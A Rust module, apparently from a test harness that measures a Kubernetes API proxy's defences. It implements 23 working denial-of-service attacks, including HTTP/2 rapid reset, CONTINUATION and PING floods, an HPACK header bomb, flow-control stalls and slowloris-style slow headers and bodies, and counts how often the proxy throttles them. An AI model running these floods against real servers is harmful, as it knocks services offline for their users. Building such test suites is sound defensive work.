//! The attacks: each a loop that is paced and ends when it is told to.

use std::future::Future;
use std::pin::Pin;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use tokio::io::AsyncWriteExt as _;
use tokio::time::{interval, sleep};

use super::wire::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, NO_WINDOW, PING, PRIORITY, RST_STREAM,
    SETTINGS, TINY_WINDOW, Target, WINDOW_UPDATE, block, frame, get, head, read_to_end, string,
};

/// A small answer.
pub(super) const SMALL: &str = "/api/v1/namespaces/default";
/// The largest there is.
const LARGE: &str = "/api/v1/pods";
const WATCH: &str = "/api/v1/pods?watch=1&resourceVersion=0";

/// How much an attacker did.
#[derive(Debug, Default)]
pub(super) struct Done {
    /// Whatever the attack consists of.
    pub(super) pieces: AtomicU64,
    /// Connections that were opened.
    pub(super) connections: AtomicU64,
    /// Of these, how many the proxy ended with ENHANCE_YOUR_CALM.
    pub(super) calmed: AtomicU64,
}

type Attacking = Pin<Box<dyn Future<Output = ()>>>;

/// An attack: what it is called, what a piece of it is, how many connections carry it, and what each does.
pub(super) struct Attack {
    pub(super) name: &'static str,
    pub(super) piece: &'static str,
    pub(super) connections: usize,
    pub(super) run: fn(Target, Arc<Done>) -> Attacking,
}

/// Every attack, in the order of the table.
pub(super) const ALL: [Attack; 23] = [
    // No attack, and what the others are to be measured against: as many requests, sent and read.
    attack("requests", "GET, answer read", 4, |target, done| {
        flood(target, done, 1000, |number| get(2 * number + 1, SMALL))
    }),
    attack("rapid-reset", "open + cancel", 4, |target, done| {
        flood(target, done, 1000, |number| {
            let stream = 2 * number + 1;
            let mut both = get(stream, SMALL);
            both.extend(frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]));
            both
        })
    }),
    attack(
        "open-then-cancel",
        "open, 5 ms, cancel",
        4,
        |target, done| Box::pin(open_then_cancel(target, done)),
    ),
    attack(
        "lists-cancelled",
        "LIST, 5 ms, cancel",
        1,
        |target, done| Box::pin(lists_cancelled(target, done)),
    ),
    attack("made-you-reset", "open + bad update", 4, |target, done| {
        flood(target, done, 1000, |number| {
            let stream = 2 * number + 1;
            let mut both = get(stream, SMALL);
            both.extend(frame(WINDOW_UPDATE, 0, stream, &[0x7f, 255, 255, 255]));
            both
        })
    }),
    attack("continuation", "CONTINUATION", 4, |target, done| {
        flood(target, done, 2000, |number| match number {
            0 => frame(HEADERS, 0, 1, &head("GET", SMALL)),
            _ => frame(CONTINUATION, 0, 1, &block(&[("x", "y")])),
        })
    }),
    attack(
        "header-bomb",
        "3 KB that unpack to 36 MB",
        4,
        |target, done| {
            flood(target, done, 100, |number| {
                frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, &bomb())
            })
        },
    ),
    attack(
        "large-headers",
        "request, 48 KiB of headers",
        4,
        |target, done| flood(target, done, 50, large_headers),
    ),
    attack("pings", "PING", 4, |target, done| {
        flood(target, done, 5000, |_| frame(PING, 0, 0, &[0; 8]))
    }),
    attack("settings", "SETTINGS", 4, |target, done| {
        flood(target, done, 5000, |_| frame(SETTINGS, 0, 0, &NO_WINDOW))
    }),
    attack("priorities", "PRIORITY", 4, |target, done| {
        flood(target, done, 5000, |_| {
            frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 1])
        })
    }),
    attack("empty-data", "DATA of nothing", 4, |target, done| {
        flood(target, done, 2000, |number| match number {
            0 => frame(HEADERS, END_HEADERS, 1, &head("POST", SMALL)),
            _ => frame(DATA, 0, 1, &[]),
        })
    }),
    attack("tiny-data", "DATA of a byte", 4, |target, done| {
        flood(target, done, 2000, |number| match number {
            0 => frame(HEADERS, END_HEADERS, 1, &head("POST", "/api/v1/namespaces")),
            _ => frame(DATA, 0, 1, b" "),
        })
    }),
    attack("tiny-window", "a byte of an answer", 4, |target, done| {
        Box::pin(tiny_window(target, done))
    }),
    attack(
        "never-reads-lists",
        "LIST, never read",
        4,
        |target, done| Box::pin(never_reads(target, done, LARGE, 50)),
    ),
    attack("never-reads-gets", "GET, never read", 4, |target, done| {
        Box::pin(never_reads(target, done, SMALL, 250))
    }),
    attack("idle-watches", "watch, held open", 4, |target, done| {
        Box::pin(never_reads(target, done, WATCH, 100))
    }),
    attack(
        "slow-bodies",
        "POST whose body trickles",
        4,
        |target, done| Box::pin(slow_bodies(target, done)),
    ),
    attack(
        "slow-headers-http2",
        "HEADERS never finished",
        100,
        |target, done| Box::pin(slow_headers_http2(target, done)),
    ),
    attack(
        "slow-headers-http1",
        "a head, a byte in 100 ms",
        100,
        |target, done| Box::pin(slow_headers_http1(target, done)),
    ),
    attack(
        "silent-handshakes",
        "TCP, then nothing",
        300,
        |target, done| Box::pin(silent(target, done)),
    ),
    attack(
        "handshakes",
        "TLS handshake, then closed",
        4,
        |target, done| Box::pin(handshakes(target, done)),
    ),
    attack(
        "uploads-refused",
        "1 MiB to a path that is refused",
        4,
        |target, done| Box::pin(uploads(target, done)),
    ),
];

const fn attack(
    name: &'static str,
    piece: &'static str,
    connections: usize,
    run: fn(Target, Arc<Done>) -> Attacking,
) -> Attack {
    Attack {
        name,
        piece,
        connections,
        run,
    }
}

/// Sends what `piece` makes, `rate` of them a second, on one connection after the other.
fn flood(target: Target, done: Arc<Done>, rate: u64, piece: fn(u32) -> Vec<u8>) -> Attacking {
    Box::pin(async move {
        loop {
            let Ok(connection) = target.http2(&[]).await else {
                sleep(Duration::from_millis(20)).await;
                continue;
            };
            done.connections.fetch_add(1, Ordering::Relaxed);
            let mut reading = tokio::task::spawn_local(read_to_end(connection.reader));
            let mut writer = connection.writer;
            let mut tick = interval(Duration::from_millis(10));
            let mut number = 0;
            // Stream numbers end at 2^31.
            while number < 1 << 30 {
                tokio::select! {
                    code = &mut reading => {
                        if code.is_ok_and(|code| code == Some(0xb)) {
                            done.calmed.fetch_add(1, Ordering::Relaxed);
                        }
                        break;
                    }
                    _ = tick.tick() => {}
                }
                let some = (rate / 100).max(1) as u32;
                let bytes: Vec<u8> = (number..number + some).flat_map(piece).collect();
                number += some;
                if writer.write_all(&bytes).await.is_err() || writer.flush().await.is_err() {
                    // What was said is still to be read.
                    continue;
                }
                done.pieces.fetch_add(u64::from(some), Ordering::Relaxed);
            }
            reading.abort();
        }
    })
}

async fn open_then_cancel(target: Target, done: Arc<Done>) {
    in_batches(target, done, 10, SMALL, 200).await;
}

async fn lists_cancelled(target: Target, done: Arc<Done>) {
    in_batches(target, done, 1, LARGE, 50).await;
}

/// Opens `batch` requests, lets them begin, and cancels them; about `rate` of them a second.
async fn in_batches(target: Target, done: Arc<Done>, batch: u32, path: &'static str, rate: u32) {
    loop {
        let Ok(connection) = target.http2(&[]).await else {
            sleep(Duration::from_millis(20)).await;
            continue;
        };
        done.connections.fetch_add(1, Ordering::Relaxed);
        let reading = tokio::task::spawn_local(read_to_end(connection.reader));
        let mut writer = connection.writer;
        let mut next = 0;
        let mut tick = interval(Duration::from_secs(1) * batch / rate);
        while !reading.is_finished() {
            tick.tick().await;
            let streams: Vec<u32> = (next..next + batch).map(|number| 2 * number + 1).collect();
            next += batch;
            let opened: Vec<u8> = streams.iter().flat_map(|id| get(*id, path)).collect();
            let cancel = |id: &u32| frame(RST_STREAM, 0, *id, &[0, 0, 0, 8]);
            let cancelled: Vec<u8> = streams.iter().flat_map(cancel).collect();
            if writer.write_all(&opened).await.is_err() || writer.flush().await.is_err() {
                break;
            }
            sleep(Duration::from_millis(5)).await;
            if writer.write_all(&cancelled).await.is_err() || writer.flush().await.is_err() {
                break;
            }
            done.pieces.fetch_add(u64::from(batch), Ordering::Relaxed);
        }
        sleep(Duration::from_millis(5)).await;
        if reading.is_finished() {
            if reading.await.is_ok_and(|code| code == Some(0xb)) {
                done.calmed.fetch_add(1, Ordering::Relaxed);
            }
        } else {
            reading.abort();
        }
    }
}

/// One entry of the table, named twelve thousand times.
fn bomb() -> Vec<u8> {
    let mut block = head("GET", SMALL);
    block.extend([0x40, 1, b'a']);
    string(&[b'x'; 3000], &mut block);
    block.extend([0x80 | 62; 12_000]);
    block
}

fn large_headers(number: u32) -> Vec<u8> {
    let stream = 2 * number + 1;
    let value = "x".repeat(12_000);
    let mut bytes = frame(HEADERS, END_STREAM, stream, &head("GET", SMALL));
    for part in 0..4 {
        let flags = if part == 3 { END_HEADERS } else { 0 };
        let name = format!("x-large-{part}");
        bytes.extend(frame(
            CONTINUATION,
            flags,
            stream,
            &block(&[(&name, &value)]),
        ));
    }
    bytes
}

/// Opens the window of an answer a byte at a time.
async fn tiny_window(target: Target, done: Arc<Done>) {
    loop {
        let Ok(connection) = target.http2(&TINY_WINDOW).await else {
            sleep(Duration::from_millis(20)).await;
            continue;
        };
        done.connections.fetch_add(1, Ordering::Relaxed);
        let reading = tokio::task::spawn_local(read_to_end(connection.reader));
        let mut writer = connection.writer;
        let _ = writer.write_all(&get(1, LARGE)).await;
        let mut tick = interval(Duration::from_millis(10));
        while !reading.is_finished() {
            tick.tick().await;
            let updates: Vec<u8> = (0..20)
                .flat_map(|_| frame(WINDOW_UPDATE, 0, 1, &[0, 0, 0, 1]))
                .collect();
            if writer.write_all(&updates).await.is_err() || writer.flush().await.is_err() {
                break;
            }
            done.pieces.fetch_add(20, Ordering::Relaxed);
        }
        sleep(Duration::from_millis(5)).await;
        if reading.is_finished() && reading.await.is_ok_and(|code| code == Some(0xb)) {
            done.calmed.fetch_add(1, Ordering::Relaxed);
        }
    }
}

/// Asks for `path` on `streams` streams and takes nothing of the answers.
async fn never_reads(target: Target, done: Arc<Done>, path: &'static str, streams: u32) {
    loop {
        let Ok(connection) = target.http2(&NO_WINDOW).await else {
            sleep(Duration::from_millis(20)).await;
            continue;
        };
        done.connections.fetch_add(1, Ordering::Relaxed);
        let reading = tokio::task::spawn_local(read_to_end(connection.reader));
        let mut writer = connection.writer;
        for number in 0..streams {
            let sent = writer.write_all(&get(2 * number + 1, path)).await;
            if sent.is_err() || writer.flush().await.is_err() {
                break;
            }
            done.pieces.fetch_add(1, Ordering::Relaxed);
            sleep(Duration::from_millis(2)).await;
        }
        let _ = reading.await;
    }
}

/// Announces 1000 bytes on each of 100 streams, and sends one of them now and then.
async fn slow_bodies(target: Target, done: Arc<Done>) {
    const STREAMS: u32 = 100;
    loop {
        let Ok(connection) = target.http2(&[]).await else {
            sleep(Duration::from_millis(20)).await;
            continue;
        };
        done.connections.fetch_add(1, Ordering::Relaxed);
        let reading = tokio::task::spawn_local(read_to_end(connection.reader));
        let mut writer = connection.writer;
        let mut begin = head("POST", "/api/v1/namespaces/default/configmaps");
        begin.extend(block(&[
            ("content-type", "application/json"),
            ("content-length", "1000"),
        ]));
        for number in 0..STREAMS {
            let bytes = frame(HEADERS, END_HEADERS, 2 * number + 1, &begin);
            if writer.write_all(&bytes).await.is_ok() {
                done.pieces.fetch_add(1, Ordering::Relaxed);
            }
        }
        let mut tick = interval(Duration::from_millis(500));
        while !reading.is_finished() {
            tick.tick().await;
            let bytes: Vec<u8> = (0..STREAMS)
                .flat_map(|number| frame(DATA, 0, 2 * number + 1, b" "))
                .collect();
            if writer.write_all(&bytes).await.is_err() || writer.flush().await.is_err() {
                break;
            }
        }
    }
}

async fn slow_headers_http2(target: Target, done: Arc<Done>) {
    loop {
        let Ok(connection) = target.http2(&[]).await else {
            sleep(Duration::from_millis(200)).await;
            continue;
        };
        done.connections.fetch_add(1, Ordering::Relaxed);
        let mut writer = connection.writer;
        let begun = frame(HEADERS, 0, 1, &head("GET", SMALL));
        if writer.write_all(&begun).await.is_ok() && writer.flush().await.is_ok() {
            done.pieces.fetch_add(1, Ordering::Relaxed);
        }
        read_to_end(connection.reader).await;
    }
}

async fn slow_headers_http1(target: Target, done: Arc<Done>) {
    loop {
        let Ok(mut stream) = target.http1().await else {
            sleep(Duration::from_millis(200)).await;
            continue;
        };
        done.connections.fetch_add(1, Ordering::Relaxed);
        let _ = stream.write_all(b"GET / HTTP/1.1\r\nHost: k\r\nX: ").await;
        while stream.write_all(b"x").await.is_ok() && stream.flush().await.is_ok() {
            done.pieces.fetch_add(1, Ordering::Relaxed);
            sleep(Duration::from_millis(100)).await;
        }
    }
}

async fn silent(target: Target, done: Arc<Done>) {
    use tokio::io::AsyncReadExt as _;
    loop {
        let Ok(mut stream) = target.tcp().await else {
            sleep(Duration::from_millis(200)).await;
            continue;
        };
        done.connections.fetch_add(1, Ordering::Relaxed);
        done.pieces.fetch_add(1, Ordering::Relaxed);
        let _ = stream.read(&mut [0]).await;
        sleep(Duration::from_millis(10)).await;
    }
}

async fn handshakes(target: Target, done: Arc<Done>) {
    let mut tick = interval(Duration::from_millis(20));
    loop {
        tick.tick().await;
        if target.http1().await.is_ok() {
            done.connections.fetch_add(1, Ordering::Relaxed);
            done.pieces.fetch_add(1, Ordering::Relaxed);
        }
    }
}

async fn uploads(target: Target, done: Arc<Done>) {
    let mut tick = interval(Duration::from_millis(100));
    loop {
        tick.tick().await;
        let Ok(mut stream) = target.http1().await else {
            continue;
        };
        done.connections.fetch_add(1, Ordering::Relaxed);
        let head = "POST /api HTTP/1.1\r\nHost: k\r\nConnection: X-Remote-User\r\nContent-Length: 1048576\r\n\r\n";
        if stream.write_all(head.as_bytes()).await.is_ok() {
            let _ = stream.write_all(&vec![0; 1 << 20]).await;
            done.pieces.fetch_add(1, Ordering::Relaxed);
        }
    }
}
